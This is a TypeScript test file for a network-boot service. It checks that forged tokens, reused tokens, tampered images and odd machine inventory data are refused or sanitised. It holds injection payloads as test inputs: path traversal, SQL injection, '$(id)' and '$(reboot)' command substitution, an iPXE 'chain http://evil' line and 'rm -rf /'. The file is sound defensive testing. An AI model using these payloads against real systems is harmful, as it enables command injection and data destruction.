/** What machines, or those who pretend to be some, send to the boot paths: refused in a line, nothing disturbed. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { importOsTemplates, registerFile } from '@hostwright/boot';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { bootPlugin } from '../src/index.ts';
import { createWorld, type World } from './world.ts';

const files = mkdtempSync(join(tmpdir(), 'hostwright-bad-'));
let world: World;
beforeAll(async () => {
  world = await createWorld({}, [
    bootPlugin({ filesFolder: files, bootUrl: 'http://10.0.0.1:8080' }),
  ]);
  await importOsTemplates(world.database.db);
});
afterAll(async () => {
  await world.stop();
  rmSync(files, { recursive: true, force: true });
});

const send = async (url: string, method: 'GET' | 'HEAD' | 'POST' = 'GET', payload = '') => {
  const answer = await world.app.inject({ method, url, ...(method === 'POST' && { payload }) });
  return { status: answer.statusCode, text: answer.body };
};
const count = async (table: 'boot_intent' | 'boot_token' | 'boot_event' | 'node') =>
  Number(
    (
      await world.database.db
        .selectFrom(table)
        .select((row) => row.fn.countAll<string>().as('n'))
        .executeTakeFirstOrThrow()
    ).n,
  );

const FORGED = [
  'A'.repeat(43),
  'x',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  "'%20or%20'1'='1",
  '%ff%fe',
  'A'.repeat(1500),
];

test.each(FORGED)('a forged token (%s) opens no door and leaves no trace', async (token) => {
  const before = [await count('boot_token'), await count('boot_event')];
  const asked = await Promise.all([
    send(`/boot/v1/seed/${token}/seed.cpio`),
    ...['plan', 'firstboot', 'keys', 'install.sh', 'preseed.cfg'].map((file) =>
      send(`/boot/v1/install/${token}/${file}`),
    ),
    ...['wipe', 'finished', 'failed', 'log'].map((verb) =>
      send(`/boot/v1/install/${token}/${verb}`, 'POST', 'serial=S1&bytes=1&reason=x'),
    ),
    send(`/boot/v1/up/${token}`, 'POST', 'boot_id=00000000-0000-4000-8000-000000000000'),
  ]);
  for (const { status, text } of asked) {
    expect([400, 401, 404, 409, 414]).toContain(status);
    expect(text).not.toMatch(/select|stack|at .*\.ts/);
  }
  expect([await count('boot_token'), await count('boot_event')]).toEqual(before);
});

test('a machine whose name for itself holds commands gets its own disk, and nothing of it is written back', async () => {
  for (const odd of ['$(reboot)', '`id`', '52:54:00:00:00:01\nchain http://evil', '"; reboot #']) {
    const query = new URLSearchParams({ mac: odd, uuid: odd, serial: odd, platform: odd });
    const { status, text } = await send(`/boot/v1/ipxe?${query.toString()}`);
    expect(status).toBe(200);
    expect(text).toMatch(/^#!ipxe\n# the request names no machine\n/);
    expect(text).not.toMatch(/reboot|evil|`/);
  }
  expect(await count('node')).toBe(0);
});

test('a used token is used: the same seed asked for by another is refused and told in the recorder', async () => {
  const { text } = await send('/boot/v1/ipxe?mac=52:54:00:00:00:77');
  const seed = /\/boot\/v1\/seed\/[^/]+\/seed\.cpio/.exec(text)?.[0] ?? 'none';
  expect((await send(seed)).status).toBe(200);
  expect((await send(seed)).status).toBe(409);
  const boots = await world.ask('viewer', { url: '/boots?mac=52:54:00:00:00:77' });
  expect(boots.json.items).toMatchObject([{ refused: 1, node: null }]);
});

test('serials and host names out of an absurd inventory are plain words in every file that is made of them', async () => {
  await world.ask('operator', { method: 'POST', url: '/nodes', body: { name: 'odd' } });
  const disks = [
    {
      name: 'sda',
      serial: 'S1"; reboot #\u2028$(id)`',
      size_bytes: 8e9,
      signatures: ['x'.repeat(4000)],
    },
    { name: 'sdb; rm -rf /', serial: 'S2', size_bytes: 8e9 },
    { name: 'sdc', serial: 'S3', size_bytes: 'many' },
    'nonsense',
  ];
  const facts = { disks, nics: [{ name: '../../x', mac: 'zz' }, 7], hostname: '$(id)' };
  await world.database.db
    .updateTable('node')
    .set({ discovery: JSON.stringify(facts) })
    .where('name', '=', 'odd')
    .execute();
  await world.database.db
    .insertInto('boot_file')
    .values({ path: 'images/default.tar.gz', sha256: 'a'.repeat(64), size: 1 })
    .execute();
  const preview = await world.ask('viewer', { url: '/os-templates/image/preview?node=odd' });
  expect(preview.json.refusals).toEqual([]);
  const plan = preview.json.files.find((file: { name: string }) => file.name === 'plan').text;
  expect(plan).toMatch(/^disk_serial=[A-Za-z0-9._-]+$/m);
  for (const line of plan.trimEnd().split('\n'))
    expect(line).toMatch(/^[a-z0-9_]+=[A-Za-z0-9._:/@%+=,~ -]*$/);
  const preseed = await world.ask('viewer', { url: '/os-templates/debian-13/preview?node=odd' });
  // a serial with quotes cannot be written into a preseed at all: refused, not escaped
  expect([200, 400]).toContain(preseed.status);
  if (preseed.status === 200)
    for (const file of preseed.json.files) expect(file.text).not.toMatch(/reboot #|\$\(id\)/);
  expect((await world.ask('viewer', { url: '/nodes/odd/networks' })).json.links).toEqual([]);
});

test('an image whose bytes are not those that were registered is not served, whole or in part', async () => {
  mkdirSync(join(files, 'images'));
  writeFileSync(join(files, 'images/a.raw'), 'the right bytes');
  await registerFile(world.database.db, { folder: files, path: 'images/a.raw' });
  expect((await send('/boot/v1/files/images/a.raw')).text).toBe('the right bytes');
  writeFileSync(join(files, 'images/a.raw'), 'the wrong bytes');
  for (const method of ['GET', 'HEAD'] as const)
    expect((await send('/boot/v1/files/images/a.raw', method)).status).toBe(409);
  expect((await send('/boot/v1/files/images/a.raw')).text).toContain('wrong checksum');
  for (const path of ['../package.json', 'images/../../x', 'images/b.raw', '%2e%2e/x'])
    expect((await send(`/boot/v1/files/${path}`)).status).toBe(404);
  await expect(
    registerFile(world.database.db, {
      folder: files,
      path: 'images/a.raw',
      sha256: 'f'.repeat(64),
    }),
  ).rejects.toThrow(/has checksum/);
});
